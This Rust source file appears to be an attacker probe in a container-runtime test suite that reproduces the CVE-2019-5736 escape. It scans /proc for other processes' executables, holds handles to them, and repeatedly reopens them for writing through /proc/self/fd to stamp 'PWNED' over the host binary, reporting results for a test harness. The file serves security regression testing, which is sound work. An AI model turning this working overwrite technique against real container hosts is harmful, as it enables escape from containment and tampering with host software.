//! The `probe exe-hunt STOPFILE` attacker: CVE-2019-5736 played from inside a container
//! without knowing when the runtime will be there.
//!
//! ```text
//! loop until STOPFILE exists (checked before each pass, so one full pass follows it):
//!   every PID in /proc but ours: open /proc/PID/exe O_PATH
//!     ok      -> hold it, once per binary (device, inode)      probe.exe-hunt.held.N=...
//!     EACCES  -> counted as denied (a process that is not dumpable), tried again later
//!   every held binary not yet written: open it for writing through /proc/self/fd/FD
//!     and write "PWNED" at offset 0 (ETXTBSY while it runs; the attack is to wait)
//! then: probe.exe-hunt.write.N=ok|ERRNO (the last attempt), .seen, .denied, =done
//! ```
//!
//! `probe.exe-hunt=ready` follows the first pass. `held.N` is `PID INODE SIZE TARGET`,
//! so a test can tell which binary a handle is. The pauses only pace the loop; the test
//! decides when it ends by creating STOPFILE.

use crate::{emit, flush, link, sys};
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::Duration;

const EPERM: i32 = 1;
const EACCES: i32 = 13;

struct Held {
    handle: File,
    last: Option<io::Result<()>>,
}

pub fn run(stop: &str) -> i32 {
    let me = std::process::id();
    let own = fs::metadata("/proc/self/exe")
        .ok()
        .map(|m| (m.dev(), m.ino()));
    let mut binaries: BTreeSet<(u64, u64)> = own.into_iter().collect();
    let mut held: Vec<Held> = Vec::new();
    let mut seen: BTreeSet<u32> = BTreeSet::new();
    let mut denied: BTreeSet<u32> = BTreeSet::new();
    let mut first = true;
    loop {
        let stopping = Path::new(stop).exists();
        for pid in pids().into_iter().filter(|&pid| pid != me) {
            seen.insert(pid);
            let path = format!("/proc/{pid}/exe");
            let opened = OpenOptions::new()
                .read(true)
                .custom_flags(sys::O_PATH)
                .open(&path);
            let handle = match opened {
                Ok(handle) => handle,
                Err(e) if matches!(e.raw_os_error(), Some(EACCES | EPERM)) => {
                    denied.insert(pid);
                    continue;
                }
                Err(_) => continue, // gone, or a zombie
            };
            let Ok(meta) = handle.metadata() else {
                continue;
            };
            if !binaries.insert((meta.dev(), meta.ino())) {
                continue;
            }
            let target = link(&path).unwrap_or_default();
            let what = format!("{pid} {} {} ", meta.ino(), meta.len());
            emit(
                format!("probe.exe-hunt.held.{}", held.len()),
                [what.into_bytes(), target].concat(),
            );
            flush();
            held.push(Held { handle, last: None });
        }
        for binary in held.iter_mut() {
            if !matches!(binary.last, Some(Ok(()))) {
                binary.last = Some(write_through(&binary.handle));
            }
        }
        if first {
            emit("probe.exe-hunt", "ready");
            flush();
            first = false;
        }
        if stopping {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    for (n, binary) in held.iter().enumerate() {
        let value = match &binary.last {
            Some(Ok(())) => "ok".to_string(),
            Some(Err(e)) => sys::error_name(e),
            None => "untried".to_string(),
        };
        emit(format!("probe.exe-hunt.write.{n}"), value);
    }
    emit("probe.exe-hunt.seen", seen.len().to_string());
    emit("probe.exe-hunt.denied", denied.len().to_string());
    emit("probe.exe-hunt", "done");
    0
}

fn pids() -> Vec<u32> {
    let Ok(entries) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    entries
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
        .collect()
}

/// Reopens the held binary for writing and overwrites its first bytes.
fn write_through(handle: &File) -> io::Result<()> {
    let reopen = format!("/proc/self/fd/{}", handle.as_raw_fd());
    let file = OpenOptions::new().write(true).open(reopen)?;
    file.write_all_at(b"PWNED", 0)
}
